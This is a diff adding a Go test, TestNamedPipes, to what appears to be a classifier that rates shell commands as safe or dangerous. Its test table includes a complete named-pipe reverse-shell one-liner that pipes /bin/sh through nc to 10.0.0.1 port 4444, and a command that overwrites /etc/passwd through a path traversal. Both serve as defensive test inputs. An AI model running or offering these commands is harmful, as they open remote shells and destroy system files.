@@ -73,6 +73,18 @@ func TestDropIns(t *testing.T) {
 	}
 }
 
+// What is written to a pipe that the text makes overwrites nothing.
+func TestNamedPipes(t *testing.T) {
+	for text, want := range map[string]string{
+		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f": "dangerous",
+		"mkfifo /tmp/f; echo x > /tmp/g": "write!", "echo x > /tmp/f; mkfifo /tmp/f": "write!", "mkfifo app.log; echo x > app.log": "write!", "mkfifo /tmp/../etc/passwd; echo > /etc/passwd": "dangerous!",
+	} {
+		if got := judged(Facts(text)); got != want {
+			t.Errorf("%q: %s, want %s", text, got, want)
+		}
+	}
+}
+
 // Every spelling of a command is the same command.
 func TestSpellings(t *testing.T) {
 	for _, text := range []string{
